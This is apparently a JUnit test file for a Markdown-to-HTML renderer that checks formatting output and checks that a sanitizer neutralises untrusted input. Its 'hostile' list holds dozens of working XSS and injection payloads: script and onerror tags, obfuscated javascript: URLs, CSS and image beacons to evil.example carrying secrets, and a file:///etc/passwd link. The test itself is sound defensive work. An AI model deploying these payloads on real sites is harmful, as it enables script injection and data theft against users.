package dev.holdfast.web.view;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.Arrays;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class MarkdownTest {
    private final Markdown markdown = new Markdown();

    private String render(String source) {
        return markdown.render(source).value();
    }

    // --- what people use

    @Test
    void headingsStandBelowThoseOfThePageAndLeaveOutNoLevel() {
        assertEquals("<h3>One</h3>\n<h4>Two</h4>\n<h5>Five</h5>\n", render("# One\n## Two\n##### Five"));
        assertEquals(
                "<h3>Three</h3>\n<h3>Two</h3>\n<h4>Four</h4>\n<h4>Three</h4>\n",
                render("### Three\n## Two\n#### Four\n### Three"));
        assertEquals(
                "<h3>1</h3>\n<h4>2</h4>\n<h5>3</h5>\n<h6>4</h6>\n<h6>5</h6>\n<h6>6</h6>\n",
                render("# 1\n## 2\n### 3\n#### 4\n##### 5\n###### 6"));
    }

    @Test
    void tableKeepsItsAlignment() {
        String html = render("| a | b |\n|:--|--:|\n| 1 | 2 |");
        assertTrue(html.contains("<th align=\"left\">a</th>"), html);
        assertTrue(html.contains("<td align=\"right\">2</td>"), html);
    }

    @Test
    void fencedCodeNamesItsLanguageAndKeepsItsText() {
        assertEquals(
                "<pre tabindex=\"0\"><code class=\"language-java\">if (a &lt; b) {}\n</code></pre>\n",
                render("```java\nif (a < b) {}\n```"));
    }

    @Test
    void fencedCodeWithHostileLanguageLosesTheLanguageOnly() {
        assertEquals("<pre tabindex=\"0\"><code>x\n</code></pre>\n", render("```\"onclick=alert(1)\nx\n```"));
    }

    @Test
    void taskListShowsBoxesThatCannotBeTicked() {
        String html = render("- [x] done\n- [ ] open");
        assertTrue(html.contains("<li><span class=\"task\">\u2611</span> done</li>"), html);
        assertTrue(html.contains("<li><span class=\"task\">\u2610</span> open</li>"), html);
    }

    @Test
    void struckOutTextAndOrderedListsFromAnyNumber() {
        assertTrue(render("~~no~~").contains("<del>no</del>"));
        assertTrue(render("7. seven").contains("<ol start=\"7\">"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"[a](https://example.org/x?y=1&z=2)", "<https://example.org/>", "at https://example.org/ now"})
    void linkTellsItsTargetNothing(String source) {
        String html = render(source);
        assertTrue(html.contains("<a href=\"https://example.org/"), html);
        assertTrue(html.contains("noopener") && html.contains("noreferrer") && html.contains("nofollow"), html);
    }

    @Test
    void addressOfAPersonBecomesAMailLink() {
        assertTrue(render("[write](mailto:a@example.org)").contains("href=\"mailto:a"));
    }

    @Test
    void rawHtmlIsShownNotObeyed() {
        assertEquals("<p>&lt;b&gt;raw&lt;/b&gt;</p>\n", render("<b>raw</b>"));
        assertTrue(render("<div>\nblock\n</div>").contains("&lt;div&gt;"));
    }

    @Test
    void imageBecomesALinkWithItsWords() {
        String html = render("![the chart](https://example.org/c.png \"title\")");
        assertTrue(html.contains(">the chart</a>"), html);
        assertTrue(html.contains("href=\"https://example.org/c.png\""), html);
    }

    @Test
    void imageWithoutWordsShowsItsAddress() {
        assertTrue(render("![](https://example.org/c.png)").contains(">https://example.org/c.png</a>"));
    }

    @Test
    void imageInALinkLeavesItsWordsInTheLink() {
        String html = render("[![badge](https://evil.example/b.svg)](https://example.org/)");
        assertEquals(1, count(html, "<a "), html);
        assertFalse(html.contains("evil.example"), html);
        assertTrue(html.contains(">badge</a>"), html);
    }

    // --- what nobody should be able to do

    static Stream<String> hostile() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<script src=https://evil.example/x.js></script>",
                "<img src=https://evil.example/x.png onerror=alert(1)>",
                "<svg onload=alert(1)><image href=\"https://evil.example/x\"/></svg>",
                "<svg><style>@import 'https://evil.example/x.css'</style></svg>",
                "<style>body{background:url(https://evil.example/x)}</style>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<iframe src=https://evil.example></iframe>",
                "<object data=https://evil.example></object><embed src=https://evil.example>",
                "<video poster=https://evil.example/x></video><audio src=https://evil.example/x>",
                "<form action=https://evil.example><button formaction=https://evil.example>x</button></form>",
                "<base href=https://evil.example/>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<p style=\"background:url(https://evil.example/x)\">x</p>",
                "<math><mtext><img src=https://evil.example/x></mtext></math>",
                "<template><img src=https://evil.example/x></template>",
                "<noscript><img src=https://evil.example/x></noscript>",
                "<textarea><img src=https://evil.example/x>",
                "<!-- --!><img src=https://evil.example/x> -->",
                "<![CDATA[<img src=https://evil.example/x>]]>",
                "<?php <img src=https://evil.example/x> ?>",
                "<img src=x onerror=alert(1)",
                "</div></article><script>alert(1)</script>",
                "[a](javascript:alert(1))",
                "[a](JaVaScRiPt:alert(1))",
                "[a](java\tscript:alert(1))",
                "[a](<java\nscript:alert(1)>)",
                "[a](&#106;avascript:alert(1))",
                "[a](javascript&colon;alert(1))",
                "[a](%6aavascript:alert(1))",
                "[a](\u0001javascript:alert(1))",
                "[a]( javascript:alert(1))",
                "[a](vbscript:msgbox(1))",
                "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[a](file:///etc/passwd)",
                "[a](//evil.example/x)",
                "[a](/c/01k000000000000000000000ab/stop)",
                "[a](\\\\evil.example\\x)",
                "[a](https://evil.example/\" onmouseover=\"alert(1))",
                "[a](https://ok.example 'x\" onmouseover=\"alert(1)')",
                "<javascript:alert(1)>",
                "<data:text/html,x>",
                "[a][r]\n\n[r]: javascript:alert(1)",
                "![x](https://evil.example/?q=secret)",
                "![x][r]\n\n[r]: https://evil.example/?q=secret",
                "![x]\n\n[x]: https://evil.example/?q=secret",
                "![x](javascript:alert(1))",
                "![x](data:image/svg+xml;base64,PHN2Zz4=)",
                "![*![y](https://evil.example/y)*](https://evil.example/x)",
                "[a ![x](javascript:alert(1)) b](javascript:alert(2))",
                "| <img src=https://evil.example/x> |\n|---|\n| ![x](https://evil.example/x) |",
                "> - ![x](https://evil.example/x)\n>   <img src=https://evil.example/x>",
                "# ![x](https://evil.example/x) <img src=x onerror=alert(1)>",
                "```html\n<img src=https://evil.example/x>\n```",
                "```\" onload=\"alert(1)\nx\n```",
                "`<img src=https://evil.example/x>`",
                "``` <script>alert(1)</script>",
                "&lt;img src=https://evil.example/x&gt;",
                "&#60;script&#62;alert(1)&#60;/script&#62;",
                "\\<img src=https://evil.example/x>",
                "- [x] <input type=image src=https://evil.example/x>",
                "[x]: https://evil.example/x '<script>alert(1)</script>'\n\n[x]",
                "\u0000<script\u0000>alert(1)</script>",
                "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
                "\uD800<img src=https://evil.example/x>",
                "<a href=x name=page id=thread>clobber</a>");
    }

    private static final Set<String> ELEMENTS = Set.of(
            "p",
            "br",
            "hr",
            "h3",
            "h4",
            "h5",
            "h6",
            "em",
            "strong",
            "del",
            "blockquote",
            "ul",
            "ol",
            "li",
            "pre",
            "code",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "a",
            "span",
            "div");
    private static final Set<String> ATTRIBUTES = Set.of("href", "rel", "class", "align", "start", "tabindex");
    private static final Pattern TAG =
            Pattern.compile("<(/?)([^\\s>/]+)((?:\\s+[^\\s=>/]+(?:=\"[^\"<>]*\")?)*)\\s*/?>");
    private static final Pattern ATTRIBUTE = Pattern.compile("([^\\s=]+)(?:=\"([^\"]*)\")?");

    /** Every tag and attribute by name: none that a browser fetches, runs or styles by; links go to the web or mail. */
    private static void assertHarmless(String html) {
        // The sanitizer parts braces with an empty comment, in case a page is read by another template engine.
        Matcher tags = TAG.matcher(html.replace("{<!-- -->", "{"));
        StringBuilder rest = new StringBuilder();
        while (tags.find()) {
            tags.appendReplacement(rest, "");
            assertTrue(ELEMENTS.contains(tags.group(2)), "element " + tags.group(2) + " in " + html);
            Matcher attributes = ATTRIBUTE.matcher(tags.group(3));
            while (attributes.find()) {
                String name = attributes.group(1);
                assertTrue(ATTRIBUTES.contains(name), "attribute " + name + " in " + html);
                if (name.equals("href")) {
                    assertTrue(attributes.group(2).matches("(?:https?://|mailto:).*"), "target in " + html);
                }
            }
        }
        tags.appendTail(rest);
        assertFalse(rest.indexOf("<") >= 0, "something that is no tag in " + html);
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void hostileTextCannotFetchRunOrStyle(String source) {
        assertHarmless(render(source));
        assertHarmless(render("before\n\n" + source + "\n\nafter"));
        assertHarmless(render("- " + source));
        assertHarmless(Markdown.asTyped(source).value());
    }

    @Test
    void theCheckWouldNoticeHarm() {
        for (String bad : new String[] {
            "<img src=\"x\">", "<p onclick=\"x\">", "<a href=\"javascript:x\">", "<p style=\"x\">", "<script>", "a < b"
        }) {
            boolean noticed = false;
            try {
                assertHarmless(bad);
            } catch (AssertionError expected) {
                noticed = true;
            }
            assertTrue(noticed, bad);
        }
    }

    /** Each hostile text cut off anywhere, as a stopped reply is. */
    @Test
    void unclosedTextCannotFetchRunOrStyle() {
        hostile().forEach(source -> {
            for (int end = 0; end < source.length(); end++) {
                assertHarmless(render(source.substring(0, end)));
            }
        });
    }

    /** All pairs: what one opens the other must not be able to use. */
    @Test
    void pairsOfHostileTextsCannotFetchRunOrStyle() {
        String[] sources = hostile().toArray(String[]::new);
        for (String first : sources) {
            for (String second : sources) {
                assertHarmless(render(first + second));
            }
        }
    }

    // --- what takes too long or goes too deep

    static Stream<String> heavy() {
        String pieces = "[,![,*a_,`,> ,- ,<,&,[a](,**a ,| ,1. ,~,a<b ,\\,*a **a ";
        return Stream.of(pieces.split(",")).map(piece -> piece.repeat(Markdown.LONGEST_RENDERED / piece.length()));
    }

    @ParameterizedTest
    @MethodSource("heavy")
    void deepOrRepeatedTextIsRenderedInTime(String source) {
        String html = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> render(source));
        assertHarmless(html);
    }

    @Test
    void textBeyondTheLimitIsShownAsTyped() {
        String source = "**x** <b>\n".repeat(Markdown.LONGEST_RENDERED / 10 + 1);
        assertEquals(Markdown.asTyped(source), markdown.render(source));
        assertFalse(render(source).contains("<strong>"));
    }

    // --- a person's words

    @Test
    void typedTextKeepsEveryLetterAndLineBreak() {
        assertEquals(
                "<div class=\"typed\">  a &lt;b&gt; &amp;amp; &quot;c&quot; &#39;d&#39;\n\n**e**</div>",
                Markdown.asTyped("  a <b> &amp; \"c\" 'd'\n\n**e**").value());
    }

    @Test
    void whatIsSafeDoesNotTellItsContent() {
        assertEquals("SafeHtml[0]", Markdown.SafeHtml.EMPTY.toString());
        assertFalse(markdown.render("secret").toString().contains("secret"));
        assertEquals(0, Markdown.SafeHtml.class.getConstructors().length, "only Markdown can make it");
    }

    @Test
    void everyElementThatIsLetThroughIsReached() {
        String html = render("# a\n## a\n### a\n#### a\n\na *a* **a** ~~a~~ `a`  \na\n\n---\n\n> a\n\n- a\n\n1. a\n\n"
                + "```\na\n```\n\n| a |\n|---|\n| a |\n\n[a](https://a.example)\n\n- [ ] a");
        Set<String> seen = new TreeSet<>();
        Matcher tags = TAG.matcher(html);
        while (tags.find()) {
            seen.add(tags.group(2));
        }
        assertEquals(new TreeSet<>(ELEMENTS), seen);
    }

    private static int count(String text, String part) {
        return (int) Arrays.stream(text.split("(?=" + Pattern.quote(part) + ")"))
                .filter(piece -> piece.startsWith(part))
                .count();
    }
}
